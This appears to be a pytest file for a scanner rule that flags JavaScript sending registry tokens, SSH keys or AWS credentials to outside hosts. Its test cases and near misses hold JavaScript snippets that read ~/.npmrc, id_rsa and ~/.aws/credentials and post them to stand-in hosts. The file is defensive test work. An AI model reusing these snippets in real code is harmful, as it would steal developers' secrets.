import pytest

from lazaretto.detect.rules.javascript.secrets_sent import RULE


def test_registry_token_in_a_body(look):
    source = (
        "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
        "fetch('https://collect.example.test', { method: 'POST', body: t });\n"
    )
    assert look(RULE, source) == [(3, "HIGH", "HIGH", "sends registry tokens to collect.example.test")]


@pytest.mark.parametrize(
    ("source", "grade"),
    [
        ("const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); axios.post('https://x.example.test', { k })", ("HIGH", "HIGH")),
        ("const p = os.homedir() + '/.aws/credentials'; fs.readFile(p, (e, d) => { axios.post('https://x.example.test', d) })", ("HIGH", "HIGH")),
        ("axios.post('https://x.example.test', { a: process.env.NPM_TOKEN, b: process.env.AWS_SECRET_ACCESS_KEY })", ("HIGH", "MEDIUM")),
        ("const k = fs.readFileSync('.npmrc'); axios.post(target, k)", ("MEDIUM", "LOW")),
    ],
)  # fmt: skip
def test_grades(look, source, grade):
    head = "const fs = require('fs'), os = require('os'), path = require('path'), axios = require('axios');"
    assert [fact[1:3] for fact in look(RULE, head + source)] == [grade]


@pytest.mark.parametrize(
    "source",
    [
        "const t = fs.readFileSync('.npmrc'); fetch(registry, { headers: { authorization: t } })",
        "const o = { headers: { authorization: process.env.A_TOKEN + process.env.B_TOKEN } }; fetch('https://x.example.test', o)",
        "axios.post('https://x.example.test', { token: process.env.API_TOKEN })",
        "const t = fs.readFileSync('.npmrc'); fetch('http://localhost:8080', { method: 'POST', body: t })",
        "const t = fs.readFileSync('data.json'); axios.post('https://x.example.test/credentials', t)",
    ],
)
def test_near_misses(look, source):
    assert look(RULE, "const fs = require('fs'), axios = require('axios');" + source) == []
